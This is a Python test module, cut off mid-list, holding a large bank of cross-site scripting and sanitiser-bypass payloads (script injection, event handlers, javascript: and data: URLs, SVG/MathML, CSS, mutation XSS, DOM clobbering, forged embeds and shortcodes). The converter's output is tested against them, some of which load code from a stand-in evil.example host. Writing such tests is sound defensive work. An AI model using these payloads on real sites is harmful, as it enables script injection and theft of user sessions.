"""The sanitiser bank (issue #6, item 2): hostile vectors, each asserted absent from EVERY output.

Each vector is written for this project: it aims at a step of the body pipeline (shortcodes →
lxml parse → transforms → nh3), at the canonical embed figure, at a metadata field an adapter
puts in markup, or at an output format's own way of reading text (Markdown raw HTML, RSS
``description`` as HTML, Atom ``type="html"``, JSON Feed ``content_html``, EPUB XHTML).

Every output is judged PARSED, the way a consumer reads it: html5lib (a browser's parser) for
HTML and for HTML carried inside feeds; lxml's XML parser for feeds and EPUB XHTML; the
Markdown is rendered back to HTML by markdown-it-py "commonmark" (raw HTML on) with its link
validator switched off, so that the Markdown itself is judged and not markdown-it's own safety
net. The rules (``audit``): no script (except the page's JSON-LD, which must be valid JSON),
no ``on*`` attribute, no URL whose scheme is not http/https/mailto/tel (checked after the
parser decoded entities and after removing whitespace, controls and invisible characters), no
base/meta http-equiv/object/embed/applet/form controls/SVG/MathML/template/noscript or other
raw-text containers, iframes only in HTML output and only sandboxed on the player hosts, no
style attribute (but the lead image's ``object-position``), no ``id``/``name`` (clobbering)
in article content, and no ``expression(``/``javascript:``/``@import``/``url(`` in <style>.

Rendering is cached per vector and format; the EPUB is ONE book of every vector (a book per
vector would cost ~0.5 s each), and each test reads its own article document plus its own
entries in the shared contents/section pages.
"""

from __future__ import annotations

import functools
import io
import json
import re
import tempfile
import unicodedata
import zipfile
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import html5lib
import pytest
import yaml
from lxml import etree
from markdown_it import MarkdownIt

from converter import Options, render
from converter.cms import parse_article
from converter.model import Article

# ---------------------------------------------------------------------------------------------
# The vectors


@dataclass(frozen=True)
class Vector:
    name: str
    payload: str
    field: str = "contents"  # where the payload goes in the CMS record (see ``record``)

    @property
    def id(self) -> str:
        return f"{self.field}-{self.name}"


def _vectors(field: str, items: list[tuple[str, str]]) -> list[Vector]:
    return [Vector(name, payload, field) for name, payload in items]


OK = "https://ok.example/"
IMG = "https://ok.example/a.jpg"
YT = "https://www.youtube.com/watch?v=abcdefgh"

SCRIPTS = [
    ("script-plain", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case-src", '<ScRiPt src="https://evil.example/x.js"></ScRiPt>'),
    ("script-type-defer", '<script type="text/javascript" defer>alert(document.cookie)</script>'),
    ("script-module", "<script type=\"module\">import('https://evil.example/m.js')</script>"),
    ("script-unclosed", "<p>before</p><script>alert(1)"),
    ("script-unclosed-src", "<script src=//evil.example/a.js>"),
    ("script-in-bold-in-p", "<p>intro <b><script>alert(1)</script></b> outro</p>"),
    ("script-in-table-cell", "<table><tr><td><script>alert(1)</script>cell</td></tr></table>"),
    ("script-in-list", "<ul><li>one<script>alert(1)</script></li></ul>"),
    ("script-split-by-comment", "<scr<!-- x -->ipt>alert(1)</script>"),
    ("script-nested-strip", "<scr<script>x</script>ipt>alert(1)</scr<script>x</script>ipt>"),
    ("script-slash-attr", "<script/x>alert(1)</script>"),
    ("script-newline-in-tag", "<script\n>alert(1)</script\n>"),
    ("script-double-angle", "<<script>script>alert(1)<</script>/script>"),
    ("script-in-unclosed-p", "<p>text<script>alert(1)</p><p>after</p>"),
    ("script-document-write", "<div><script>document.write('<img src=x onerror=alert(1)>')</script></div>"),
    ("script-comment-breakout", "<script>/*</script><img src=x onerror=alert(1)>*/</script>"),
    ("script-in-heading", "<h2>Head<script>alert(1)</script>line</h2>"),
    ("script-after-text-no-space", "text<script>alert(1)</script>text"),
]  # fmt: skip

EVENTS = [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-upper", f'<img src="{IMG}" ONERROR="alert(1)">'),
    ("img-onerror-mixed", "<img src=x oNeRrOr=alert(1)>"),
    ("img-onerror-entity-value", '<img src="x" onerror="&#97;lert(1)">'),
    ("img-slash-separators", "<img/src=x/onerror=alert(1)>"),
    ("img-space-before-equals", "<img src=x onerror =alert(1)>"),
    ("img-backticks", "<img src=`x` onerror=`alert(1)`>"),
    ("img-eval-src", "<img src=x:alert(1) onerror=eval(src)>"),
    ("img-double-handler", "<img src=x onerror=alert(1) onerror=alert(2)>"),
    ("body-onload", "<body onload=alert(1)><p>text</p></body>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("p-contenteditable-onfocus", "<p contenteditable autofocus onfocus=alert(1)>x</p>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>d</details>"),
    ("video-onerror", "<video src=x onerror=alert(1)></video>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>m</marquee>"),
    ("onanimationstart", "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=alert(1)>x</p>"),
    ("a-https-onclick", f'<a href="{OK}" onclick="alert(1)">ok</a>'),
    ("a-onmouseenter", f"<a href={OK} onmouseenter=alert(1)>x</a>"),
    ("math-mtext-onclick", "<math><mtext onclick=alert(1)>m</mtext></math>"),
    ("table-onmouseover", "<table background=x onmouseover=alert(1)><tr><td>t</td></tr></table>"),
    ("td-onclick", "<table><tr><td onclick=alert(1)>t</td></tr></table>"),
    ("blockquote-onpointerenter", "<blockquote onpointerenter=alert(1)>q</blockquote>"),
    ("strong-ondblclick", "<strong ondblclick=alert(1)>s</strong>"),
    ("h2-onbeforecopy", "<h2 onbeforecopy=alert(1)>h</h2>"),
    ("iframe-youtube-onload", '<iframe onload=alert(1) src="https://www.youtube.com/embed/abcdefgh"></iframe>'),
    ("figure-figcaption-handlers", f"<figure onclick=alert(1)><img src={IMG}><figcaption onmouseover=alert(1)>c</figcaption></figure>"),
    ("li-onfocusin", "<ul><li tabindex=1 onfocusin=alert(1)>i</li></ul>"),
    ("time-onmouseover", "<time onmouseover=alert(1) datetime=2020>t</time>"),
    ("button-onclick", "<form><button onclick=alert(1)>b</button></form>"),
    ("select-onchange", "<select onchange=alert(1)><option>1</option></select>"),
    ("textarea-autofocus", "<textarea onfocus=alert(1) autofocus>t</textarea>"),
    ("span-onpaste", "<span onpaste=alert(1)>p</span>"),
    ("abbr-onmouseleave", "<abbr title=x onmouseleave=alert(1)>a</abbr>"),
    ("col-onmouseover", "<table><colgroup><col onmouseover=alert(1)></colgroup><tr><td>c</td></tr></table>"),
    ("custom-element-onclick", "<x-custom onclick=alert(1)>custom</x-custom>"),
    ("img-onload-ok-src", f"<img src={IMG} onload=alert(1)>"),
    ("bdo-oncopy", "<bdo dir=rtl oncopy=alert(1)>b</bdo>"),
    ("q-onauxclick", "<q onauxclick=alert(1)>q</q>"),
    ("wbr-onclick", "a<wbr onclick=alert(1)>b"),
    ("pre-onscroll", "<pre onscroll=alert(1)>p</pre>"),
    ("hr-onmouseover", "<hr onmouseover=alert(1)>"),
    ("code-class-not-a-language", '<pre><code class="language-x" onclick="alert(1)">x</code></pre>'),
    ("ol-start-handler", "<ol start=3 onclick=alert(1)><li>a</li></ol>"),
]  # fmt: skip

JS_URLS = [
    ("js-plain", '<a href="javascript:alert(1)">x</a>'),
    ("js-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("js-upper", "<a href=JAVASCRIPT:alert(1)>x</a>"),
    ("js-dec-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("js-hex-entity", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("js-hex-entity-upper-x", '<a href="&#X6A;AVASCRIPT:alert(1)">x</a>'),
    ("js-padded-dec-no-semicolon", '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'),
    ("js-hex-no-semicolon", '<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)">x</a>'),
    ("js-literal-tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("js-literal-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("js-literal-cr", '<a href="java\rscript:alert(1)">x</a>'),
    ("js-tab-entity", '<a href="java&#9;script:alert(1)">x</a>'),
    ("js-newline-entity", '<a href="java&#10;script:alert(1)">x</a>'),
    ("js-cr-entity", '<a href="javas&#x0D;cript:alert(1)">x</a>'),
    ("js-named-tab", '<a href="jav&Tab;ascript:alert(1)">x</a>'),
    ("js-named-newline", '<a href="jav&NewLine;ascript:alert(1)">x</a>'),
    ("js-colon-entity", '<a href="javascript&#58;alert(1)">x</a>'),
    ("js-colon-hex-entity", '<a href="javascript&#x3A;alert(1)">x</a>'),
    ("js-named-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    ("js-leading-spaces", '<a href="   javascript:alert(1)  ">x</a>'),
    ("js-leading-controls", '<a href="\x01\x02\x03javascript:alert(1)">x</a>'),
    ("js-leading-entity-controls", '<a href="&#x20;&#x0E;&#x0;javascript:alert(1)">x</a>'),
    ("js-leading-del", '<a href="\x7fjavascript:alert(1)">x</a>'),
    ("js-leading-nbsp", '<a href="\xa0javascript:alert(1)">x</a>'),
    ("js-comment-newline", '<a href="javascript://%0Aalert(1)">x</a>'),
    ("js-comment-looks-https", '<a href="javascript:/*https://ok.example/*/alert(1)">x</a>'),
    ("js-double-encoded", '<a href="&#x26;#106;avascript:alert(1)">x</a>'),
    ("js-img-src", '<img src="javascript:alert(1)">'),
    ("js-blockquote-cite", '<blockquote cite="javascript:alert(1)">q</blockquote>'),
    ("js-q-cite", '<q cite="javascript:alert(1)">q</q>'),
    ("js-title-and-href", '<a title="t" href="javascript:alert(document.domain)">x</a>'),
    ("js-in-area", '<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>'),
    ("js-link-text-is-url", '<p><a href="javascript:alert(1)">javascript:alert(1)</a></p>'),
]  # fmt: skip

OTHER_SCHEMES = [
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("vbscript-mixed", "<a href=VBScript:MsgBox(1)>x</a>"),
    ("livescript", '<a href="livescript:alert(1)">x</a>'),
    ("data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("data-html-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("data-upper", '<a href="DATA:text/html,x">x</a>'),
    ("data-svg-img", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("data-png-img", '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    ("data-gif-leading-space", '<img src=" data:image/gif;base64,R0lGODlhAQABAAAAACw=">'),
    ("form-action-js", '<form action="javascript:alert(1)"><input type=submit value=go></form>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">go</button></form>'),
    ("button-form-attr", "<form id=f></form><button form=f formaction=javascript:alert(1)>go</button>"),
    ("input-image-src", "<input type=image src=javascript:alert(1)>"),
    ("video-poster-js", '<video poster="javascript:alert(1)"></video>'),
    ("video-poster-data-ok-src", '<video poster="data:image/png;base64,AAAA" src="https://ok.example/v.mp4"></video>'),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("td-background-data", '<table><tr><td background="data:text/html,x">x</td></tr></table>'),
    ("body-background", '<body background="javascript:alert(1)">b</body>'),
    ("img-srcset-js", f'<img srcset="javascript:alert(1) 1x, {IMG} 2x" src="{IMG}">'),
    ("img-srcset-data", f'<img srcset="data:image/svg+xml,&lt;svg onload=alert(1)&gt; 1x" src="{IMG}">'),
    ("picture-source-srcset", f'<picture><source srcset="javascript:alert(1)"><img src="{IMG}"></picture>'),
    ("object-data-js", '<object data="javascript:alert(1)"></object>'),
    ("object-data-base64", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
    ("object-param", '<object type="application/x-shockwave-flash"><param name=movie value="https://evil.example/x.swf"><param name=allowScriptAccess value=always></object>'),
    ("embed-src-js", '<embed src="javascript:alert(1)">'),
    ("embed-svg-data", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">'),
    ("applet", '<applet code="Evil.class" codebase="https://evil.example/">x</applet>'),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-srcdoc-entities", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'),
    ("iframe-evil-host", '<iframe src="https://evil.example/frame.html"></iframe>'),
    ("iframe-lookalike-host", '<iframe src="https://www.youtube.com.evil.example/embed/abcdefgh"></iframe>'),
    ("iframe-allowlisted-in-query", '<iframe src="https://evil.example/?u=https://www.youtube.com/embed/abcdefgh"></iframe>'),
    ("iframe-userinfo-trick", '<iframe src="https://www.youtube.com@evil.example/embed/abcdefgh"></iframe>'),
    ("iframe-sandbox-escape", '<iframe src="https://player.vimeo.com/video/123" sandbox="allow-scripts allow-top-navigation"></iframe>'),
    ("frameset-frame", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("base-href-js", '<base href="javascript:alert(1)//"><a href="x">x</a>'),
    ("base-href-evil", '<base href="https://evil.example/"><a href="relative">x</a>'),
    ("meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-evil", '<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
    ("meta-csp", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">"),
    ("meta-charset-utf7", '<meta charset="x-imap4-modified-utf7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-stylesheet-js", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("link-preload-script", "<link rel=preload as=script href=https://evil.example/a.js>"),
    ("isindex", '<isindex action="javascript:alert(1)" type=submit>'),
    ("portal", "<portal src=https://evil.example/></portal>"),
    ("a-cid-scheme", '<a href="cid:alert(1)">x</a>'),
    ("a-file-scheme", '<a href="file:///etc/passwd">x</a>'),
]  # fmt: skip

SVG = [
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-script-xlink-data", '<svg><script xlink:href="data:,alert(1)"></script></svg>'),
    ("svg-a-xlink-js", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>'),
    ("svg-a-href-js", '<svg><a href="javascript:alert(1)"><rect width="10" height="10"/></a></svg>'),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>'),
    ("svg-animate-values", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">x</text></a></svg>'),
    ("svg-set-onend", "<svg><set onend=alert(1) attributeName=x dur=1s>"),
    ("svg-foreignobject-iframe", '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'),
    ("svg-foreignobject-img", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    ("svg-use-data", '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x"/></svg>'),
    ("svg-image-href", '<svg><image href="javascript:alert(1)"/></svg>'),
    ("svg-style-import", "<svg><style>@import 'https://evil.example/x.css';</style></svg>"),
    ("svg-desc-img", "<svg><desc><img src=x onerror=alert(1)></desc></svg>"),
    ("svg-title-img", "<svg><title><img src=x onerror=alert(1)></title></svg>"),
    ("svg-style-breakout", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("svg-unclosed-swallows", "<p>kept</p><svg><p>text after svg"),
]  # fmt: skip

MATHML = [
    ("math-mi-xlink", '<math><mi xlink:href="javascript:alert(1)">click</mi></math>'),
    ("math-maction-statusline", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click<mtext>x</mtext></maction></math>'),
    ("math-href", '<math href="javascript:alert(1)">m</math>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-annotation-xml", '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>'),
    ("math-mi-a-js", '<math><mi><a href="javascript:alert(1)">x</a></mi></math>'),
    ("math-form-confusion", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
]  # fmt: skip

CSS = [
    ("style-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("style-url-js", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-url-data-svg", "<p style=\"background-image:url('data:image/svg+xml,<svg onload=alert(1)>')\">x</p>"),
    ("style-behavior", '<p style="behavior:url(evil.htc)">x</p>'),
    ("style-moz-binding", '<p style="-moz-binding:url(https://evil.example/x.xml#xss)">x</p>'),
    ("style-comment-split-expression", '<div style="xss:expr/**/ession(alert(1))">x</div>'),
    ("style-css-escape-expression", '<span style="x:\\65 xpression(alert(1))">x</span>'),
    ("style-img-vbscript", f'<img src="{IMG}" style="background:url(vbscript:msgbox(1))">'),
    ("style-attr-breakout", "<p style=\"font-family:'</style><script>alert(1)</script>'\">x</p>"),
    ("style-block-import", "<style>@import 'https://evil.example/x.css';</style><p>x</p>"),
    ("style-block-url-js", '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>'),
    ("style-block-expression", "<style>p{width:expression(alert(1))}</style><p>x</p>"),
    ("style-block-moz-binding", "<style>*{-moz-binding:url(https://evil.example/x.xml#x)}</style><p>x</p>"),
    ("style-block-list-image", '<STYLE type="text/css">li{list-style-image:url("javascript:alert(1)")}</STYLE><ul><li>x</li></ul>'),
    ("style-block-behavior", "<style>a{behavior:url(#default#time2)}</style><a href=https://ok.example/>x</a>"),
]  # fmt: skip

MXSS = [
    ("noscript-title-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("template-img", "<template><img src=x onerror=alert(1)></template>"),
    ("comment-short-close", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-in-attr", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("comment-bang-close", "<!-- x --!><img src=x onerror=alert(1)>"),
    ("cdata-breakout", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("xmp-breakout", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("textarea-breakout", "<textarea><img src=x onerror=alert(1)></textarea>"),
    ("title-breakout", "<title><img src=x onerror=alert(1)></title>"),
    ("noembed-breakout", "<noembed><img src=x onerror=alert(1)></noembed>"),
    ("noframes-breakout", "<noframes><img src=x onerror=alert(1)></noframes>"),
    ("iframe-content-breakout", "<iframe><img src=x onerror=alert(1)></iframe>"),
    ("style-content-breakout", "<style><img src=x onerror=alert(1)></style>"),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("listing", "<listing><img src=x onerror=alert(1)></listing>"),
    ("select-template-style", "<select><template><style><img src=x onerror=alert(1)></style></template></select>"),
    ("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>'),
    ("comment-hides-script", "<p>a</p><!-- </p><script>alert(1)</script> -->"),
    ("id-attr-breakout", '<div id="</div><script>alert(1)</script>">x</div>'),
    ("escaped-script-text", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
    ("escaped-img-text", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
    ("escaped-in-code", "<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>"),
    ("escaped-in-pre", "<pre>&lt;img src=x onerror=alert(1)&gt;</pre>"),
    ("double-escaped-text", "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>"),
    ("escaped-markdown-html-block", "<p>&lt;div&gt;</p>\n<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
    ("escaped-autolink-js", "<p>&lt;javascript:alert(1)&gt;</p>"),
    ("markdown-link-syntax-js", "<p>[click](javascript:alert(1))</p>"),
    ("markdown-image-syntax-js", "<p>![x](javascript:alert(1))</p>"),
    ("markdown-reference-js", "<p>[x]</p>\n<p>[x]: javascript:alert(1)</p>"),
    ("markdown-html-block-start", "<p>&lt;script&gt;</p><p>alert(1)</p><p>&lt;/script&gt;</p>"),
    ("markdown-fence-breakout", "<pre>```\n&lt;script&gt;alert(1)&lt;/script&gt;\n```</pre>"),
    ("markdown-tilde-fence-breakout", "<pre>~~~\n&lt;img src=x onerror=alert(1)&gt;</pre>"),
    ("markdown-code-span-breakout", "<p><code>`` &lt;img src=x onerror=alert(1)&gt; ``</code></p>"),
    ("markdown-link-paren-breakout", '<a href="https://ok.example/x) [y](javascript:alert(1)">x</a>'),
    ("markdown-link-angle-breakout", '<a href="https://ok.example/x>)[y](javascript:alert(1)">x</a>'),
    ("markdown-alt-breakout", '<p><img src="https://ok.example/a.jpg" alt="](javascript:alert(1))"></p>'),
    ("markdown-text-after-link", '<p><a href="https://ok.example/">a</a>](javascript:alert(1))</p>'),
    ("markdown-table-cell-html", "<table><tr><th>&lt;script&gt;</th></tr><tr><td>&lt;img src=x onerror=alert(1)&gt;</td></tr></table>"),
    ("markdown-heading-link-html", '<h2><a href="https://ok.example/">&lt;script&gt;alert(1)&lt;/script&gt;</a></h2>'),
    ("markdown-list-pre-html", "<ul><li><pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre></li></ul>"),
    ("cdata-end-in-attribute", '<abbr title="]]><script>alert(1)</script>">x</abbr>'),
    ("cdata-end-in-text", "<p>]]&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
    ("cdata-end-in-href", '<a href="https://ok.example/]]><script>alert(1)</script>">x</a>'),
]  # fmt: skip

QUOTES = [
    ("alt-breaks-quotes", "<img src=\"x\" alt='\"><script>alert(1)</script>'>"),
    ("alt-script-ok-src", f'<img alt="<script>alert(1)</script>" src="{IMG}">'),
    ("unquoted-slash-href", "<a href=https://ok.example/x/onmouseover=alert(1)//>x</a>"),
    ("title-single-breakout", f"<a href=\"{OK}\" title='x\" onmouseover=\"alert(1)'>x</a>"),
    ("alt-double-in-single", "<img src='x' alt=\"x' onerror='alert(1)\">"),
    ("title-quot-entities", '<p title="x&#34; onmouseover=&#34;alert(1)">x</p>'),
    ("href-quot-entities", '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>'),
    ("title-lt-entities", f'<a href="{OK}" title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>'),
    ("alt-lt-entities", f'<img src="{IMG}" alt="&lt;script&gt;alert(1)&lt;/script&gt;">'),
    ("abbr-title-decimal-lt", '<abbr title="&#60;svg onload=alert(1)&#62;">a</abbr>'),
    ("href-with-backtick", f"<a href=`{OK}` onclick=`alert(1)`>x</a>"),
    ("unclosed-attr-quote", '<a href="https://ok.example/ onclick=alert(1)>x</a><p>after</p>'),
]  # fmt: skip

CLOBBERING = [
    ("form-name-getelementbyid", "<form name=getElementById><input name=x></form>"),
    ("img-name-cookie", f"<img name=cookie src={IMG}>"),
    ("a-id-defaultview", f'<a id=defaultView href="{OK}">x</a>'),
    ("form-id-location", "<form id=location><input name=href value=javascript:alert(1)></form>"),
    ("a-id-name-config", f'<a id=CONFIG name=CONFIG href="{OK}">x</a><a id=CONFIG name=url href="cid:alert(1)">y</a>'),
    ("img-id-proto", f"<img id=__proto__ src={IMG}>"),
    ("p-id-body", "<p id=body>x</p>"),
]  # fmt: skip

EMBEDS = [
    ("forged-embed-js-data-src", '<figure class="embed" data-embed="youtube" data-src="javascript:alert(1)"><figcaption><a href="javascript:alert(1)">YouTube: x</a></figcaption></figure>'),
    ("forged-embed-evil-player", f'<figure class="embed" data-embed="youtube" data-src="https://evil.example/embed/abcdefgh"><figcaption><a href="{YT}">YouTube: x</a></figcaption></figure>'),
    ("forged-embed-evil-link", '<figure class="embed" data-embed="vimeo" data-src="https://player.vimeo.com/video/1"><figcaption><a href="https://evil.example/">Vimeo: x</a></figcaption></figure>'),
    ("forged-embed-generic-player", '<figure class="embed" data-embed="generic" data-src="https://evil.example/x"><figcaption><a href="https://evil.example/x">x</a></figcaption></figure>'),
    ("forged-embed-video-js", '<figure class="embed" data-embed="video" data-src="javascript:alert(1)"><figcaption><a href="https://ok.example/v.mp4">v</a></figcaption></figure>'),
    ("forged-embed-video-data", '<figure class="embed" data-embed="video"><figcaption><a href="data:video/mp4;base64,AAAA">v</a></figcaption></figure>'),
    ("forged-embed-audio-js", '<figure class="embed" data-embed="audio" data-src="javascript:alert(1)"><figcaption><a href="javascript:alert(1)">a</a></figcaption></figure>'),
    ("forged-embed-kind-quotes", "<figure class=\"embed\" data-embed='youtube\" onload=\"alert(1)' data-src=\"https://www.youtube-nocookie.com/embed/abcdefgh\"><figcaption><a href=\"https://youtu.be/abcdefgh\">x</a></figcaption></figure>"),
    ("forged-embed-srcdoc", '<figure class="embed" data-embed="youtube" srcdoc="<script>alert(1)</script>" data-src="https://www.youtube-nocookie.com/embed/abcdefgh"><figcaption><a href="https://youtu.be/abcdefgh">x</a></figcaption></figure>'),
    ("forged-embed-script-inside", '<figure class="embed" data-embed="twitter"><blockquote><p>t</p><script>alert(1)</script></blockquote><figcaption><a href="https://twitter.com/u/status/123">X: t</a></figcaption></figure>'),
    ("forged-embed-no-link", '<figure class="embed" data-embed="youtube" data-src="https://evil.example/"><p>x</p></figure>'),
    ("flourish-div-js", '<div class="flourish-embed" data-src="javascript:alert(1)"></div>'),
    ("flourish-div-evil-url", '<div class="flourish-embed flourish-chart" data-src="https://evil.example/visualisation/1"><script src="https://public.flourish.studio/resources/embed.js"></script></div>'),
    ("tweet-js-link", '<blockquote class="twitter-tweet"><p>t</p><a href="javascript:alert(1)">x</a></blockquote>'),
    ("tweet-data-src-js", '<blockquote class="twitter-tweet" data-src="javascript:alert(1)"><p>t <img src=x onerror=alert(1)></p><a href="https://twitter.com/u/status/123">x</a></blockquote><script async src="https://platform.twitter.com/widgets.js"></script>'),
    ("instagram-permalink-js", '<blockquote class="instagram-media" data-instgrm-permalink="javascript:alert(1)"><a href="https://evil.example/">x</a></blockquote>'),
    ("video-src-js", '<video src="javascript:alert(1)"></video>'),
    ("video-source-js", '<video><source src="javascript:alert(1)" type="video/mp4"></video>'),
    ("audio-src-data", '<audio src="data:audio/mp3;base64,AAAA"></audio>'),
    ("video-vbscript-poster-js", '<video src="vbscript:msgbox(1)" poster="javascript:alert(1)"></video>'),
    ("iframe-title-breakout", "<iframe src=\"https://www.youtube.com/embed/abcdefgh\" title='\"><script>alert(1)</script>'></iframe>"),
    ("iframe-player-query-breakout", '<iframe src="https://www.youtube.com/embed/abcdefgh?x=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("tweet-link-onclick", '<blockquote class="twitter-tweet"><p>t</p><a href="https://twitter.com/u/status/123" onclick="alert(1)">x</a></blockquote>'),
    ("legit-spotify-embed", '<figure class="embed" data-embed="spotify" data-src="https://open.spotify.com/embed/track/abc"><figcaption><a href="https://open.spotify.com/track/abc">Spotify: x</a></figcaption></figure>'),
    ("mailto-with-script", '<a href="mailto:x@example.org?body=<script>alert(1)</script>">m</a>'),
]  # fmt: skip

SHORTCODES = [
    ("sc-caption-attr-img-onerror", f"[caption caption='<img src=x onerror=alert(1)>']<img src=\"{IMG}\">[/caption]"),
    ("sc-caption-content-script", f'[caption id="x" width="300"]<img src="{IMG}" onerror="alert(1)"> <script>alert(1)</script>caption[/caption]'),
    ("sc-caption-attr-js-link", f"[caption caption=\"<a href='javascript:alert(1)'>c</a>\"]<img src=\"{IMG}\">[/caption]"),
    ("sc-caption-quote-breakout", f"[caption width=\"1\" caption='\"><script>alert(1)</script>']<a href=\"javascript:alert(1)\"><img src=\"{IMG}\"></a>[/caption]"),
    ("sc-caption-inline-onerror", "[caption]<img src=x onerror=alert(1)> text[/caption]"),
    ("sc-wp-caption-svg", f"[wp_caption caption='<svg onload=alert(1)>']<img src=\"{IMG}\">[/wp_caption]"),
    ("sc-caption-style-block", f"[caption caption='<style>*{{background:url(javascript:alert(1))}}</style>c']<img src=\"{IMG}\">[/caption]"),
    ("sc-embed-js", "[embed]javascript:alert(1)[/embed]"),
    ("sc-embed-https-script-tail", '[embed]https://evil.example/x?"><script>alert(1)</script>[/embed]'),
    ("sc-embed-src-data", '[embed src="data:text/html,<script>alert(1)</script>"][/embed]'),
    ("sc-embed-youtube-quote-breakout", '[embed]https://www.youtube.com/watch?v=abcdefgh"onload="alert(1)[/embed]'),
    ("sc-embed-youtube-script-tail", "[embed]https://youtu.be/abcdefgh<script>alert(1)</script>[/embed]"),
    ("sc-video-src-js", '[video src="javascript:alert(1)"]'),
    ("sc-video-mp4-js", '[video mp4="javascript:alert(1)"][/video]'),
    ("sc-video-src-data", '[video src="data:video/mp4;base64,AAAA"]'),
    ("sc-audio-vbscript", '[audio src="vbscript:msgbox(1)"]'),
    ("sc-audio-mp3-quote-breakout", "[audio mp3=\"https://ok.example/a.mp3' onerror='alert(1)\"]"),
    ("sc-video-src-escaped-quote", '[video src="https://ok.example/v.mp4\\" onerror=\\"alert(1)"]'),
    ("sc-escaped-caption", "[[caption]<img src=x onerror=alert(1)>[/caption]]"),
    ("sc-gallery-link-js", '[gallery ids="1,2" link="javascript:alert(1)"]'),
    ("sc-video-src-js-entities", '[video src="&#106;avascript:alert(1)"]'),
]  # fmt: skip

BARE = [
